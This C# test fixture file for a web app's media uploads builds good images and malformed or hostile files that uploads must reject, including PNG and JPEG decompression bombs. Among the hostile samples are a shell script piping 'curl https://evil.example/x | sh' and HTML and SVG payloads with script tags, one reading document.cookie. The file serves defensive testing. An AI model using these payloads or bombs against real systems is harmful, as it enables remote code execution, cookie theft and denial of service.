using System.Buffers.Binary;
using System.Text;
using NetVips;

namespace PurePhysio.Web.Tests.Media;

/// <summary>Images the tests make themselves (no stock photos): good ones, and every kind of bad file an upload must refuse.</summary>
public static class TestImages
{
    /// <summary>A noisy RGB JPEG (noise so it is not trivially small).</summary>
    public static byte[] Jpeg(int width = 400, int height = 300)
    {
        using var noise = Image.Gaussnoise(width, height, mean: 128, sigma: 30);
        using var rgb = noise.Bandjoin(noise, noise).Cast(Enums.BandFormat.Uchar);
        return rgb.JpegsaveBuffer(q: 90, keep: Enums.ForeignKeep.None);
    }

    /// <summary>A PNG with transparency.</summary>
    public static byte[] PngWithAlpha(int width = 300, int height = 200)
    {
        using var black = Image.Black(width, height, bands: 3);
        using var coloured = black + new double[] { 20, 120, 200 };
        using var alpha = Image.Black(width, height) + 128;
        using var rgba = coloured.Bandjoin(alpha).Cast(Enums.BandFormat.Uchar);
        return rgba.PngsaveBuffer();
    }

    public const string CameraMake = "TestCamX";

    /// <summary>
    /// A 400 x 200 JPEG whose EXIF says: taken by <see cref="CameraMake"/>, at 51°30'N (GPS), to be shown
    /// rotated 90° clockwise (orientation 6), so upright it is 200 x 400.
    /// </summary>
    public static byte[] JpegWithExifGpsAndOrientation()
    {
        var jpeg = Jpeg(400, 200);
        var tiff = new byte[120];
        var span = tiff.AsSpan();
        "II"u8.CopyTo(span);
        BinaryPrimitives.WriteUInt16LittleEndian(span[2..], 42);
        BinaryPrimitives.WriteUInt32LittleEndian(span[4..], 8);
        // IFD0 at 8: Make, Orientation, GPS IFD pointer.
        BinaryPrimitives.WriteUInt16LittleEndian(span[8..], 3);
        Entry(span[10..], 0x010F, 2, 9, 50);
        Entry(span[22..], 0x0112, 3, 1, 6);
        Entry(span[34..], 0x8825, 4, 1, 60);
        BinaryPrimitives.WriteUInt32LittleEndian(span[46..], 0);
        Encoding.ASCII.GetBytes(CameraMake + "\0").CopyTo(span[50..]);
        // GPS IFD at 60: latitude ref "N" and latitude 51/1 30/1 0/1.
        BinaryPrimitives.WriteUInt16LittleEndian(span[60..], 2);
        Entry(span[62..], 0x0001, 2, 2, 'N');
        Entry(span[74..], 0x0002, 5, 3, 90);
        BinaryPrimitives.WriteUInt32LittleEndian(span[86..], 0);
        uint[] rationals = [51, 1, 30, 1, 0, 1];
        for (var i = 0; i < rationals.Length; i++)
        {
            BinaryPrimitives.WriteUInt32LittleEndian(span[(90 + (i * 4))..], rationals[i]);
        }

        var exif = "Exif\0\0"u8.ToArray().Concat(tiff).ToArray();
        var segment = new byte[4 + exif.Length];
        segment[0] = 0xFF;
        segment[1] = 0xE1;
        BinaryPrimitives.WriteUInt16BigEndian(segment.AsSpan(2), (ushort)(exif.Length + 2));
        exif.CopyTo(segment, 4);
        return [.. jpeg[..2], .. segment, .. jpeg[2..]];
    }

    private static void Entry(Span<byte> at, ushort tag, ushort type, uint count, uint value)
    {
        BinaryPrimitives.WriteUInt16LittleEndian(at, tag);
        BinaryPrimitives.WriteUInt16LittleEndian(at[2..], type);
        BinaryPrimitives.WriteUInt32LittleEndian(at[4..], count);
        BinaryPrimitives.WriteUInt32LittleEndian(at[8..], value);
    }

    /// <summary>A 100-byte PNG whose header declares 50,000 x 50,000 pixels (2.5 gigapixels).</summary>
    public static byte[] PngBomb()
    {
        var ihdr = new byte[13];
        BinaryPrimitives.WriteUInt32BigEndian(ihdr, 50_000);
        BinaryPrimitives.WriteUInt32BigEndian(ihdr.AsSpan(4), 50_000);
        ihdr[8] = 8; // bit depth
        ihdr[9] = 2; // RGB
        // A few compressed bytes of zeros: a decoder that trusted the header would inflate them into gigabytes.
        byte[] idat = [0x78, 0x9C, 0xED, 0xC1, 0x01, 0x0D, 0x00, 0x00, 0x00, 0xC2, 0xA0, 0xF7, 0x4F, 0x6D, 0x0E, 0x37, 0xA0, 0x00, 0x00, 0x00];
        return [0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A, .. Chunk("IHDR", ihdr), .. Chunk("IDAT", idat), .. Chunk("IEND", [])];
    }

    /// <summary>A small real JPEG with its frame header changed to declare 50,000 x 50,000 pixels.</summary>
    public static byte[] JpegBomb()
    {
        var jpeg = Jpeg(64, 64);
        for (var i = 2; i < jpeg.Length - 9; i++)
        {
            if (jpeg[i] == 0xFF && jpeg[i + 1] is 0xC0 or 0xC2)
            {
                BinaryPrimitives.WriteUInt16BigEndian(jpeg.AsSpan(i + 5), 50_000);
                BinaryPrimitives.WriteUInt16BigEndian(jpeg.AsSpan(i + 7), 50_000);
                return jpeg;
            }
        }

        throw new InvalidOperationException("No frame header found");
    }

    public static byte[] TruncatedJpeg()
    {
        var jpeg = Jpeg(600, 400);
        return jpeg[..(jpeg.Length * 6 / 10)];
    }

    /// <summary>A JPEG whose compressed image data after the headers is overwritten with garbage.</summary>
    public static byte[] CorruptJpeg()
    {
        var jpeg = Jpeg(600, 400);
        var start = Array.FindIndex(jpeg, 2, b => b == 0xDA) + 20; // just after the start-of-scan header
        var random = new Random(12);
        for (var i = start; i < jpeg.Length - 2; i++)
        {
            jpeg[i] = (byte)random.Next(0, 255);
        }

        return jpeg;
    }

    public static byte[] Pdf => Encoding.ASCII.GetBytes("%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n");

    public static byte[] Html => Encoding.UTF8.GetBytes("<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>");

    public static byte[] Script => Encoding.UTF8.GetBytes("#!/bin/sh\ncurl https://evil.example/x | sh\n");

    public static byte[] Svg => Encoding.UTF8.GetBytes("<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"100\" height=\"100\"><script>alert(1)</script><rect width=\"100\" height=\"100\"/></svg>");

    private static byte[] Chunk(string type, byte[] data)
    {
        var chunk = new byte[12 + data.Length];
        BinaryPrimitives.WriteUInt32BigEndian(chunk, (uint)data.Length);
        Encoding.ASCII.GetBytes(type).CopyTo(chunk, 4);
        data.CopyTo(chunk, 8);
        BinaryPrimitives.WriteUInt32BigEndian(chunk.AsSpan(8 + data.Length), Crc32(chunk.AsSpan(4, 4 + data.Length)));
        return chunk;
    }

    private static uint Crc32(ReadOnlySpan<byte> bytes)
    {
        var crc = 0xFFFFFFFFu;
        foreach (var b in bytes)
        {
            crc ^= b;
            for (var k = 0; k < 8; k++)
            {
                crc = (crc & 1) != 0 ? (crc >> 1) ^ 0xEDB88320u : crc >> 1;
            }
        }

        return ~crc;
    }
}
